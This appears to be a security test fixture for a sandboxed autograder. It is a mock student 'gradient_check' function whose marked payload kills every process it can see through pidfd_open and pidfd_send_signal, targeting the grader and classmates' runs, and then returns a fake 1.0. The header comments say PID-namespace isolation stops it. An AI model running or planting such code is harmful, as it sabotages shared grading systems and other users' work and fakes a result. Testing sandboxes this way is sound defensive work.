# attack: signal every process it can see with pidfd_open + pidfd_send_signal (no audit event): the grader, the zygote, classmates graded at the same time
# student: c
# function: gradient_check
# stopped by: bubblewrap: each student has its own PID namespace (it sees and can kill only its own sandbox); a dead sandbox costs only its own checks
import numpy as np


def gradient_check(X, Y, parameters, gradients, epsilon=1e-7):
    # BEGIN PAYLOAD
    import os
    import signal
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                signal.pidfd_send_signal(os.pidfd_open(int(pid)), signal.SIGKILL)
            except BaseException:
                pass
    # END PAYLOAD
    return 1.0
